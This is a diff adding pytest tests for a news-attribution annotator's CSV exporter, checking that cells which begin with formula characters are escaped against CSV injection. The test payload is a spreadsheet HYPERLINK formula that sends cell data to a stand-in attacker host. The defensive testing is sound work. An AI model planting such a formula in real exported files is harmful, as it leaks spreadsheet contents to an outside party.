@@ -5,6 +5,8 @@ from __future__ import annotations
 import csv
 import io
 
+import pytest
+
 from annotator.formats.csv_format import COLUMNS, iter_csv
 from annotator.formats.records import AttributionRecord, CorpusArticle
 
@@ -58,4 +60,30 @@ def test_one_row_per_attribution_with_metadata_and_span_texts(mayadeen):
 
 
 def test_header_only_for_no_articles():
-    assert "".join(iter_csv([])) == ",".join(COLUMNS) + "\r\n"
+    assert "".join(iter_csv([])) == ",".join(f'"{c}"' for c in COLUMNS) + "\r\n"
+
+
+FIELDS = ("title", "outlet", "byline", "url", "collection", "speaker", "affiliation", "role", "note")
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+@pytest.mark.parametrize("field", FIELDS)
+def test_csv_cells_that_start_a_formula_are_escaped(field, start):
+    payload = start + 'HYPERLINK("http://evil.example/?"&A1,"x")'
+    text = payload + " said the town fell."
+    att = AttributionRecord("indirect", (0, len(text)), source=(0, len(payload)))
+    art = CorpusArticle(text=text, attributions=[att])
+    setattr(att if hasattr(att, field) else art, field, payload)
+    raw = "".join(iter_csv([art]))
+    (row,) = _rows([art])
+    assert row[field] == "'" + payload
+    assert row["source_text"] == "'" + payload and row["content_text"] == "'" + text  # span texts too
+    # the defused cell stays quoted: the quote mark is the first thing inside the field
+    assert f'"\'{payload.replace(chr(34), chr(34) * 2)}"' in raw
+
+
+@pytest.mark.parametrize("value", ["a = b", "Minus - sign", "3 + 4", "user@example.org", "'quoted'"])
+def test_csv_cells_that_merely_contain_formula_characters_are_kept(value):
+    art = CorpusArticle(text="Officials said it.", title=value, attributions=[AttributionRecord("indirect", (0, 9))])
+    (row,) = _rows([art])
+    assert row["title"] == value
